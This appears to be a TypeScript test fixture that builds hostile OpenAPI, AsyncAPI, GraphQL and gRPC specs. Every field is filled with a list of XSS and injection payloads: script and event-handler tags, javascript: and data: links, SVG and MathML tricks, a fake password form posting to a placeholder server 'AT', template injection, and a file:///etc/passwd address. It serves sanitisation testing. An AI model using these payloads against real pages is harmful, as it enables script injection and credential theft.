/** Texts that would run, load or cover something if a page took them for HTML, Markdown or an address. `AT` is a server that notes who asks. */
const PAYLOADS: readonly string[] = [
  '<script>ran()</script>',
  '<script src="AT/1.js"></script>',
  '<script type="module">ran()</script>',
  '</script><script>ran()</script>',
  '</pre></code><script>ran()</script>',
  '<img src=x onerror="ran()">',
  '<img src="AT/2.png">',
  '![image](AT/3.png)',
  '![image](x "onerror=ran()")',
  '<svg onload="ran()"></svg>',
  '<svg><script>ran()</script></svg>',
  '<svg><a xlink:href="javascript:ran()"><text y="20">x</text></a></svg>',
  '<svg><animate onbegin="ran()" attributeName="x" dur="1s"></svg>',
  '<svg><foreignObject><iframe src="AT/4"></iframe></foreignObject></svg>',
  '<svg><use href="AT/5.svg#a"></use></svg>',
  '<math><mi xlink:href="javascript:ran()">x</mi></math>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=ran()></style></mglyph></math>',
  '<iframe src="AT/6"></iframe>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<iframe src="javascript:parent.ran()"></iframe>',
  '<object data="AT/7"></object>',
  '<embed src="AT/8">',
  '<link rel="stylesheet" href="AT/9.css">',
  '<link rel="preload" as="script" href="AT/10.js">',
  '<meta http-equiv="refresh" content="0; url=AT/11">',
  '<base href="AT/">',
  '<style>@import "AT/12.css"; body { background: url(AT/13.png) }</style>',
  '<div style="position:fixed;inset:0;z-index:99999;background:red" id="evil">cover</div>',
  '<div style="background:url(AT/14.png)">x</div>',
  '<form action="AT/15"><input name="password" type="password"><button>Sign in</button></form>',
  '<input autofocus onfocus="ran()">',
  '<details open ontoggle="ran()"><summary>x</summary></details>',
  '<video src="AT/16.mp4" autoplay onplay="ran()"></video>',
  '<audio src="AT/17.mp3" autoplay></audio>',
  '<body onload="ran()">',
  '<a href="javascript:ran()">link</a>',
  '[link](javascript:ran())',
  '[link](JaVaScRiPt&colon;ran&lpar;&rpar;)',
  '[link](java\nscript:ran())',
  '[link](data:text/html,<script>ran()</script>)',
  '[link](vbscript:ran())',
  '<javascript:ran()>',
  '[x]: javascript:ran()\n\n[x]',
  '<a href="data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==">link</a>',
  '<a href="#" onclick="ran()">link</a>',
  '{% partial file="AT/18.md" /%}',
  '{% img src="AT/19.png" /%}',
  '{{constructor.constructor("ran()")()}}',
  `\${ran()}`,
  '" onmouseover="ran()" x="',
  "' onmouseover='ran()' x='",
  '<![CDATA[<script>ran()</script>]]>',
  '<!--><script>ran()</script>-->',
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  '<template><script>ran()</script></template>',
  '<isindex type=image src=x onerror=ran()>',
];

const ADDRESSES = [
  'javascript:ran()',
  'data:text/html,<script>ran()</script>',
  'AT/20',
  'file:///etc/passwd',
  '//AT/21',
];

export const ATTACKS = PAYLOADS.length + ADDRESSES.length;

/** The description of an API in each format that is read, with all of that wherever a text may be. @param at an address of http */
export function hostileSpecs(at: string): Record<'openapi' | 'asyncapi' | 'graphql' | 'grpc', string> {
  const payloads = PAYLOADS.map((payload) => payload.replaceAll('AT', at));
  const addresses = ADDRESSES.map((address) => address.replaceAll('AT', at));
  const all = payloads.join('\n\n');
  const comment = all.replaceAll('*/', '').replaceAll('"""', '');
  return {
    openapi: JSON.stringify(openapi({ payloads, addresses, all })),
    asyncapi: JSON.stringify(asyncapi({ payloads, addresses, all })),
    graphql: `type Query {\n  """\n${comment}\n"""\n  a(word: String = ${JSON.stringify(payloads[0])}): A @deprecated(reason: ${JSON.stringify(all)})\n}\n"""\n${comment}\n"""\ntype A { id: ID }\n`,
    grpc: `/* ${comment} */\nsyntax = "proto3";\npackage a;\n/* ${comment} */\nservice S {\n  /* ${comment} */\n  rpc Get(M) returns (M);\n}\n/* ${comment} */\nmessage M { /* ${comment} */ string a = 1; }\n`,
  };
}

interface Hostile {
  payloads: readonly string[];
  addresses: readonly string[];
  all: string;
}

function info({ payloads, addresses, all }: Hostile) {
  return {
    ...{ title: payloads[0], version: payloads[1], description: all, summary: all, termsOfService: addresses[0] },
    contact: { name: payloads[2], url: addresses[0], email: payloads[3] },
    license: { name: payloads[4], url: addresses[1] },
    'x-logo': { url: addresses[2], href: addresses[0], altText: payloads[5] },
  };
}

function openapi({ payloads, addresses, all }: Hostile) {
  const operation = (payload: string, place: number) => ({
    ...{ operationId: payload, summary: payload, description: all, tags: [payloads[place % 3]] },
    externalDocs: { url: addresses[place % addresses.length], description: payload },
    parameters: [
      { name: payload, in: 'query', required: true, description: all, schema: { type: 'string' }, example: payload },
    ],
    requestBody: {
      content: { 'application/json': { schema: { $ref: '#/components/schemas/All' }, example: { a: payload } } },
    },
    responses: { 200: { description: all, content: { 'text/html': { example: payload } } } },
    'x-codeSamples': [{ lang: payload, source: payload, label: payload }],
  });
  return {
    ...{ openapi: '3.1.0', info: info({ payloads, addresses, all }) },
    servers: [
      { url: 'https://api.acme.example', description: all },
      ...addresses.map((url) => ({ url, description: url })),
    ],
    tags: payloads.slice(0, 3).map((name) => ({ name, description: all, externalDocs: { url: addresses[0] } })),
    externalDocs: { url: addresses[1], description: payloads[0] },
    security: [{ all: [] }],
    paths: Object.fromEntries(payloads.map((payload, place) => [`/${payload}`, { post: operation(payload, place) }])),
    components: {
      schemas: {
        All: {
          type: 'object',
          title: payloads[0],
          description: all,
          properties: Object.fromEntries(
            payloads.map((each) => [each, { type: 'string', description: all, default: each }]),
          ),
        },
      },
      securitySchemes: {
        all: {
          type: 'oauth2',
          description: all,
          flows: { implicit: { authorizationUrl: addresses[0], scopes: { a: all } } },
        },
      },
    },
  };
}

function asyncapi({ payloads, addresses, all }: Hostile) {
  return {
    ...{ asyncapi: '3.0.0', info: info({ payloads, addresses, all }) },
    servers: { a: { host: payloads[0], protocol: payloads[1], description: all } },
    channels: {
      a: {
        address: payloads[2],
        title: payloads[3],
        description: all,
        messages: {
          m: { name: payloads[4], title: payloads[5], description: all, payload: { type: 'object', description: all } },
        },
      },
    },
    operations: {
      o: { action: 'send', channel: { $ref: '#/channels/a' }, title: payloads[6], summary: all, description: all },
    },
  };
}
